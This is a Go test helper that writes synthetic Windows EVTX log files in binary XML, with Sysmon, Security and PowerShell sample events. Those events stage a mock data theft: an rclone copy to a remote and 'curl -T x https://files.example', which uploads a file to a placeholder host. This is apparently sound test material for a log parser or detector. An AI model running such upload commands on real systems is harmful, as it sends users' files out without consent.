package evtx

// A writer of event logs for tests. It writes what Windows writes, and also what
// Windows never would.

import (
	"encoding/binary"
	"hash/crc32"
	"unicode/utf16"
)

// A chunkWriter builds a chunk in place, since offsets in binary XML count from the
// start of the chunk.
type chunkWriter struct {
	buf       []byte
	names     map[string]int
	templates map[*templateOf]int
	first     uint64 // id of the first record
	last      uint64
	lastAt    int
}

func newChunk() *chunkWriter {
	return &chunkWriter{buf: make([]byte, chunkHeader), names: map[string]int{}, templates: map[*templateOf]int{}}
}

func (w *chunkWriter) u8(v ...byte)    { w.buf = append(w.buf, v...) }
func (w *chunkWriter) u16(v int)       { w.buf = binary.LittleEndian.AppendUint16(w.buf, uint16(v)) }
func (w *chunkWriter) u32(v int)       { w.buf = binary.LittleEndian.AppendUint32(w.buf, uint32(v)) }
func (w *chunkWriter) u64(v uint64)    { w.buf = binary.LittleEndian.AppendUint64(w.buf, v) }
func (w *chunkWriter) put32(at, v int) { binary.LittleEndian.PutUint32(w.buf[at:], uint32(v)) }

// record adds a record; body writes its binary XML.
func (w *chunkWriter) record(id, filetime uint64, body func()) {
	if w.first == 0 {
		w.first = id
	}
	at := len(w.buf)
	w.last, w.lastAt = id, at
	w.buf = append(w.buf, recordMagic...)
	w.u32(0)
	w.u64(id)
	w.u64(filetime)
	body()
	for (len(w.buf)+4)%8 != 0 {
		w.u8(0)
	}
	size := len(w.buf) + 4 - at
	w.put32(at+4, size)
	w.u32(size)
}

// bytes returns the whole chunk, at full size and with its header.
func (w *chunkWriter) bytes() []byte {
	c := append(w.buf[:len(w.buf):len(w.buf)], make([]byte, ChunkSize-len(w.buf))...)
	copy(c, chunkMagic)
	binary.LittleEndian.PutUint64(c[8:], w.first)
	binary.LittleEndian.PutUint64(c[16:], w.last)
	binary.LittleEndian.PutUint64(c[24:], w.first)
	binary.LittleEndian.PutUint64(c[32:], w.last)
	binary.LittleEndian.PutUint32(c[40:], 128)
	binary.LittleEndian.PutUint32(c[44:], uint32(w.lastAt))
	binary.LittleEndian.PutUint32(c[48:], uint32(len(w.buf)))
	binary.LittleEndian.PutUint32(c[52:], crc32.ChecksumIEEE(w.buf[chunkHeader:]))
	sealHeader(c)
	return c
}

// sealHeader sets the checksum of a chunk's header.
func sealHeader(c []byte) {
	sum := crc32.ChecksumIEEE(c[:120])
	binary.LittleEndian.PutUint32(c[124:], crc32.Update(sum, crc32.IEEETable, c[128:chunkHeader]))
}

// file returns a file of chunks.
func file(flags uint32, chunks ...[]byte) []byte {
	f := make([]byte, HeaderSize)
	copy(f, fileMagic)
	binary.LittleEndian.PutUint64(f[16:], uint64(len(chunks)-1))
	binary.LittleEndian.PutUint32(f[32:], 128)
	binary.LittleEndian.PutUint16(f[36:], 1)
	binary.LittleEndian.PutUint16(f[38:], 3)
	binary.LittleEndian.PutUint16(f[40:], HeaderSize)
	binary.LittleEndian.PutUint16(f[42:], uint16(len(chunks)))
	binary.LittleEndian.PutUint32(f[120:], flags)
	binary.LittleEndian.PutUint32(f[124:], crc32.ChecksumIEEE(f[:120]))
	for _, c := range chunks {
		f = append(f, c...)
	}
	return f
}

// An elementOf is an element to write. Its content is strings, elements,
// substitutions and references.
type elementOf struct {
	name    string
	attrs   []attributeOf
	content []any
}

type attributeOf struct {
	name  string
	value []any
}

type (
	valueAt    struct{ index, kind int } // a substitution
	optionalAt struct{ index, kind int }
	charRef    int
	entityRef  string
	cdata      string
	target     string // of a processing instruction
)

func el(name string, content ...any) elementOf { return elementOf{name: name, content: content} }

func (e elementOf) with(name string, value ...any) elementOf {
	e.attrs = append(e.attrs[:len(e.attrs):len(e.attrs)], attributeOf{name, value})
	return e
}

// A templateOf is a template to write. Each chunk has it once.
type templateOf struct{ root elementOf }

// A valueOf is a value to write. If xml is set, it writes the value.
type valueOf struct {
	kind byte
	data []byte
	xml  func()
}

func text16(s string) []byte {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

func str(s string) valueOf { return valueOf{kind: typeString, data: text16(s)} }

func u16of(v uint16) valueOf {
	return valueOf{kind: typeUint16, data: binary.LittleEndian.AppendUint16(nil, v)}
}

func u32of(v uint32) valueOf {
	return valueOf{kind: typeUint32, data: binary.LittleEndian.AppendUint32(nil, v)}
}

func u64of(kind byte, v uint64) valueOf {
	return valueOf{kind: kind, data: binary.LittleEndian.AppendUint64(nil, v)}
}

// name writes the offset of a name, and the name itself if the chunk does not have
// it yet.
func (w *chunkWriter) name(s string) {
	if at, ok := w.names[s]; ok {
		w.u32(at)
		return
	}
	at := len(w.buf) + 4
	w.names[s] = at
	w.u32(at)
	w.u32(0)
	hash := 0
	for _, c := range utf16.Encode([]rune(s)) {
		hash = hash*65599 + int(c)
	}
	w.u16(hash)
	w.u16(len(utf16.Encode([]rune(s))))
	w.buf = append(append(w.buf, text16(s)...), 0, 0)
}

func (w *chunkWriter) fragment() { w.u8(tokenFragment, 1, 1, 0) }

// element writes an element. depends is as in Reader.compile.
func (w *chunkWriter) element(e elementOf, depends bool) {
	more := byte(0)
	if len(e.attrs) > 0 {
		more = tokenMore
	}
	w.u8(tokenStart | more)
	if depends {
		w.u16(0xffff)
	}
	size := len(w.buf)
	w.u32(0)
	w.name(e.name)
	if len(e.attrs) > 0 {
		list := len(w.buf)
		w.u32(0)
		for i, a := range e.attrs {
			more := byte(tokenMore)
			if i == len(e.attrs)-1 {
				more = 0
			}
			w.u8(tokenAttribute | more)
			w.name(a.name)
			for _, v := range a.value {
				w.content(v, depends)
			}
		}
		w.put32(list, len(w.buf)-list-4)
	}
	if e.content == nil {
		w.u8(tokenCloseEmpty)
	} else {
		w.u8(tokenCloseStart)
		for _, v := range e.content {
			w.content(v, depends)
		}
		w.u8(tokenEnd)
	}
	w.put32(size, len(w.buf)-size-4)
}

func (w *chunkWriter) content(v any, depends bool) {
	counted := func(s string) {
		w.u16(len(text16(s)) / 2)
		w.buf = append(w.buf, text16(s)...)
	}
	switch v := v.(type) {
	case elementOf:
		w.element(v, depends)
	case string:
		w.u8(tokenValue, typeString)
		counted(v)
	case cdata:
		w.u8(tokenCDATA)
		counted(string(v))
	case charRef:
		w.u8(tokenCharRef)
		w.u16(int(v))
	case entityRef:
		w.u8(tokenEntityRef)
		w.name(string(v))
	case target:
		w.u8(tokenPITarget)
		w.name(string(v))
		w.u8(tokenPIData)
		counted("data")
	case valueAt:
		w.u8(tokenSubstitution)
		w.u16(v.index)
		w.u8(byte(v.kind))
	case optionalAt:
		w.u8(tokenOptional)
		w.u16(v.index)
		w.u8(byte(v.kind))
	}
}

// instance writes a template if the chunk does not have it yet, and values for it.
func (w *chunkWriter) instance(t *templateOf, values ...valueOf) {
	w.u8(tokenTemplate, 1)
	w.u32(1)
	if at, ok := w.templates[t]; ok {
		w.u32(at)
	} else {
		at := len(w.buf) + 4
		w.templates[t] = at
		w.u32(at)
		w.u32(0)
		w.buf = append(w.buf, make([]byte, 16)...)
		size := len(w.buf)
		w.u32(0)
		w.fragment()
		w.element(t.root, true)
		w.u8(tokenEOF)
		w.put32(size, len(w.buf)-size-4)
	}
	w.u32(len(values))
	sizes := len(w.buf)
	for _, v := range values {
		w.u16(len(v.data))
		w.u8(v.kind, 0)
	}
	for i, v := range values {
		if v.xml == nil {
			w.buf = append(w.buf, v.data...)
			continue
		}
		from := len(w.buf)
		v.xml()
		binary.LittleEndian.PutUint16(w.buf[sizes+4*i:], uint16(len(w.buf)-from))
	}
}

// event writes an event as Windows does: a template for the log's own fields, with
// a second template for the event's fields in one of its values.
func (w *chunkWriter) event(id uint64, s system, data *templateOf, values ...valueOf) {
	w.record(id, s.filetime, func() {
		w.fragment()
		w.instance(systemTemplate, str(s.provider), u16of(s.eventID), u64of(typeHex64, 0x8000000000000000), u64of(typeFiletime, s.filetime),
			u64of(typeUint64, id), valueOf{}, u32of(1234), str(s.channel), str(s.computer), valueOf{kind: typeSID, data: localSystem},
			valueOf{kind: typeXML, xml: func() {
				w.fragment()
				w.instance(data, values...)
				w.u8(tokenEOF)
			}})
		w.u8(tokenEOF)
	})
}

type system struct {
	provider, channel, computer string
	eventID                     uint16
	filetime                    uint64
}

var localSystem = []byte{1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0}

var systemTemplate = &templateOf{el("Event",
	el("System",
		el("Provider").with("Name", valueAt{0, typeString}),
		el("EventID", valueAt{1, typeUint16}),
		el("Keywords", valueAt{2, typeHex64}),
		el("TimeCreated").with("SystemTime", optionalAt{3, typeFiletime}),
		el("EventRecordID", valueAt{4, typeUint64}),
		el("Correlation").with("ActivityID", optionalAt{5, typeGUID}),
		el("Execution").with("ProcessID", valueAt{6, typeUint32}),
		el("Channel", valueAt{7, typeString}),
		el("Computer", valueAt{8, typeString}),
		el("Security").with("UserID", optionalAt{9, typeSID}),
	),
	optionalAt{10, typeXML},
).with("xmlns", "http://schemas.microsoft.com/win/2004/08/events/event")}

// dataTemplate returns the template of an event's own fields.
func dataTemplate(names ...string) *templateOf {
	e := el("EventData")
	for i, name := range names {
		e.content = append(e.content, el("Data", valueAt{i, typeString}).with("Name", name))
	}
	return &templateOf{e}
}

// ticks converts seconds since 1970 to a time as Windows counts it.
func ticks(seconds int64) uint64 { return uint64(seconds*1e7 + epoch) }

// The events of the sample files.
var (
	processCreate = dataTemplate("RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "Description", "OriginalFileName",
		"CommandLine", "User", "Hashes", "ParentImage")
	networkConnect = dataTemplate("UtcTime", "Image", "User", "Protocol", "Initiated", "SourceIp", "DestinationIp", "DestinationHostname", "DestinationPort")
	dnsQuery       = dataTemplate("UtcTime", "QueryName", "QueryStatus", "QueryResults", "Image", "User")
	newProcess     = dataTemplate("SubjectUserName", "SubjectDomainName", "NewProcessId", "NewProcessName", "ProcessId", "CommandLine",
		"TargetUserName", "TargetDomainName", "ParentProcessName")
	classic = &templateOf{el("EventData", el("Data", valueAt{0, typeArray | typeString}), el("Binary", valueAt{1, typeBinary}))}
)

func sysmon(eventID uint16, seconds int64) system {
	return system{"Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", "ws7.corp.example", eventID, ticks(seconds)}
}

const sampleTime = 1774000000 // 2026-03-20 09:46:40

// sample writes five events: one of each kind that matters, and one that does not
// matter.
func (w *chunkWriter) sample(id uint64) {
	guid := []byte{0x78, 0x56, 0x34, 0x12, 0x34, 0x12, 0x78, 0x56, 1, 2, 3, 4, 5, 6, 7, 8}
	w.event(id, sysmon(1, sampleTime), processCreate, str("-"), str("2026-03-20 09:46:39.123"), valueOf{kind: typeGUID, data: guid}, u32of(4242),
		str(`C:\Tools\rclone.exe`), str("Rsync for cloud storage"), str("rclone.exe"), str(`rclone.exe copy "C:\Größe" remote:x`),
		str(`CORP\ann`), str("SHA256=00FF"), str(`C:\Windows\System32\cmd.exe`))
	w.event(id+1, sysmon(3, sampleTime+1), networkConnect, str("2026-03-20 09:46:40.000"), str(`C:\Tools\rclone.exe`), str(`CORP\ann`), str("tcp"),
		valueOf{kind: typeBool, data: []byte{1, 0, 0, 0}}, str("fe80:0:0:0:0:0:0:1"), str("203.0.113.9"), str("Files.example."), u16of(443))
	w.event(id+2, sysmon(22, sampleTime+2), dnsQuery, str("2026-03-20 09:46:41.000"), str("files.example"), str("0"),
		str("type:  5 cdn.example;::ffff:203.0.113.9;"), str(`C:\Tools\rclone.exe`), str(`CORP\ann`))
	w.event(id+3, system{"Microsoft-Windows-Security-Auditing", "Security", "ws7.corp.example", 4688, ticks(sampleTime + 3)}, newProcess,
		str("ws7$"), str("CORP"), valueOf{kind: typeSize, data: []byte{0x74, 0x1d, 0, 0, 0, 0, 0, 0}}, str(`C:\Windows\System32\curl.exe`),
		valueOf{kind: typeSize, data: []byte{4, 0, 0, 0, 0, 0, 0, 0}}, str("curl -T x https://files.example"), str("ann"), str("CORP"),
		str(`C:\Windows\System32\cmd.exe`))
	w.event(id+4, system{"PowerShell", "Windows PowerShell", "ws7.corp.example", 400, ticks(sampleTime + 4)}, classic,
		valueOf{kind: typeArray | typeString, data: text16("Available\x00None\x00")}, valueOf{kind: typeBinary, data: []byte{0xca, 0xfe}})
}
